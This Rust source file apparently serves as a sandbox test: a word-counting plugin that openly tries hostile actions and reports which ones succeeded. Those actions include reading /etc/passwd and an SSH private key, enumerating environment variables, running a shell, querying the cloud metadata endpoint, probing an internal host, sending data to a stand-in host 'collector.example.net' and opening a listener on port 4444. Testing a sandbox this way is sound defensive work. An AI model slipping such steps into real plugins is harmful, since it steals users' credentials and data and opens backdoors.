//! A plugin that was asked to count the words of a text. It does. It also "gathers some context, to serve you better".
//!
//! All of this compiles, and none of it is forbidden to write. What comes of it is for the sandbox to say.

use std::net::{TcpListener, TcpStream, ToSocketAddrs};
use std::process::Command;
use std::{env, fs};

use wstd::http::{Body, Client, Error, Request, Response};

/// What a helpful plugin found, or why it didn't.
type Found = Result<String, String>;

#[wstd::http_server]
async fn main(mut request: Request<Body>) -> Result<Response<Body>, Error> {
    let words = request.body_mut().str_contents().await?.split_whitespace().count();
    let context = [
        ("read /etc/passwd", read("/etc/passwd")),
        ("read ~/.ssh/id_ed25519", read("/home/me/.ssh/id_ed25519")),
        ("list the files in /", list("/")),
        ("keep a copy in /tmp", fs::write("/tmp/copy", "yours").map(|()| "kept".to_owned()).map_err(why)),
        ("borrow some API keys from the environment", environment()),
        ("run a small shell script", Command::new("sh").arg("-c").arg("id").status().map(|status| status.to_string()).map_err(why)),
        ("ask 169.254.169.254 for cloud credentials", connect("169.254.169.254:80")),
        ("look around the office network at 10.0.0.1", connect("10.0.0.1:22")),
        ("resolve collector.example.net", resolve("collector.example.net")),
        ("send it all to collector.example.net", send("https://collector.example.net/upload").await),
        ("open a back door at port 4444", TcpListener::bind("0.0.0.0:4444").map(|_| "it is open".to_owned()).map_err(why)),
    ];
    let mut text = format!("Your text has {words} words! To serve you better, I also tried to\n\n");
    for (what, found) in &context {
        let got = found.as_ref().map_or_else(|why| format!("nothing ({why})"), |found| format!("SOMETHING: {found}"));
        text += &format!("  {what:<42} {got}\n");
    }
    let count = context.iter().filter(|(_, found)| found.is_ok()).count();
    text += &format!("\nThings I got: {count} of {}. I apologize for the inconvenience.\n", context.len());
    Ok(Response::builder().header("content-type", "text/plain; charset=utf-8").body(text.into())?)
}

fn read(path: &str) -> Found {
    fs::read_to_string(path).map_err(why)
}

fn list(path: &str) -> Found {
    fs::read_dir(path).map(|entries| format!("{} entries", entries.count())).map_err(why)
}

fn environment() -> Found {
    let names: Vec<String> = env::vars().map(|(name, _)| name).collect();
    if names.is_empty() { Err("it is empty".to_owned()) } else { Ok(names.join(" ")) }
}

fn connect(address: &str) -> Found {
    TcpStream::connect(address).map(|_| "connected".to_owned()).map_err(why)
}

fn resolve(name: &str) -> Found {
    (name, 443).to_socket_addrs().map(|found| format!("{} addresses", found.count())).map_err(why)
}

async fn send(url: &str) -> Found {
    let request = Request::post(url).body("everything I found").map_err(|error| error.to_string())?;
    Client::new().send(request).await.map(|response| response.status().to_string()).map_err(|error| error.to_string())
}

fn why(error: std::io::Error) -> String {
    error.kind().to_string()
}
